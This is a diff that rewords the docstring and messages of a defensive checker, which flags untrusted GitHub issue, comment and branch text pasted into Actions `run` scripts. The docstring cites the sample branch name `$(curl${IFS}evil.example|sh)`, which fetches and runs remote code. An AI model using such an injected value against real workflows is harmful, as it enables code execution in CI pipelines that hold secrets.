@@ -1,20 +1,19 @@
-"""Text that a stranger writes became part of a script of a workflow.
+"""Text that a stranger controls became part of a script of a workflow.
 
-`${{ … }}` is pasted into `run` before the shell sees it, so the title of an issue, the body of a
-comment or the name of a branch is code: a branch called `$(curl${IFS}evil.example|sh)` runs. It
-is how attackers got into ultralytics (December 2024), nx (August 2025) and many others. The
-contexts are those that GitHub Security Lab lists in "Keeping your GitHub Actions and workflows
-secure, part 2: untrusted input", and `client_payload`.
+`${{ … }}` is substituted into `run` before the shell sees it, so the title of an issue, the body of a comment
+or the name of a branch is code: a branch called `$(curl${IFS}evil.example|sh)` runs. Attackers got into
+ultralytics (December 2024), nx (August 2025) and many others this way. The contexts are those that GitHub
+Security Lab lists in "Keeping your GitHub Actions and workflows secure, part 2: untrusted input", and
+`client_payload`.
 
-High; critical under a trigger that runs with secrets on what strangers wrote
-(`pull_request_target`, `workflow_run`, `issue_comment`, `issues`, `discussion…`). Low for
-`inputs`, which need the right to start the workflow. One finding per file.
+High; critical under a trigger that runs with secrets on what strangers wrote (`pull_request_target`,
+`workflow_run`, `issue_comment`, `issues`, `discussion…`). Low for `inputs`, which require permission to start
+the workflow. There is one finding per file.
 
-Silent for an expression that the scripts of this file already had, for one in `env` or `with` (the
-way to pass it), in a condition, and where it only decides between true and false.
+Not reported: an expression that the scripts of this file already had, one in `env` or `with` (the correct way
+to pass it) or in a condition, and one that only selects between true and false.
 
-On 1,474 workflow changes of 11 public repositories it spoke at 5, 4 times high
-or critical.
+In 1,474 workflow changes of 11 public repositories there were 5 findings, 4 of them high or critical.
 
 Fix: pass it through the environment: `env: {TITLE: "${{ github.event.issue.title }}"}`, then `"$TITLE"`.
 """
@@ -41,7 +40,7 @@ def check_all(changes: Sequence[Change], before: Sequence[Record]) -> Iterator[F
     for sides in touched(changes, before):
         names = settings(sides.after)
         severity = Severity.CRITICAL if any(f"on.{event}" in names for event in _OPEN) else SEVERITY
-        yield from _gained(sides, untrusted, severity, "text that strangers write")
+        yield from _gained(sides, untrusted, severity, "text that strangers control")
         yield from _gained(sides, inputs, Severity.LOW, "an input")
 
 
@@ -61,7 +60,7 @@ def _gained(
         [Change(before=None, after=one) for one in scripts],
         rule="workflow-injection",
         severity=severity,
-        message=f"{what} is pasted into the script of {script.subject}: {listed(names, _SHOWN)}",
+        message=f"{what} is inserted into the script of {script.subject}: {listed(names, _SHOWN)}",
         line=line,
     )
 
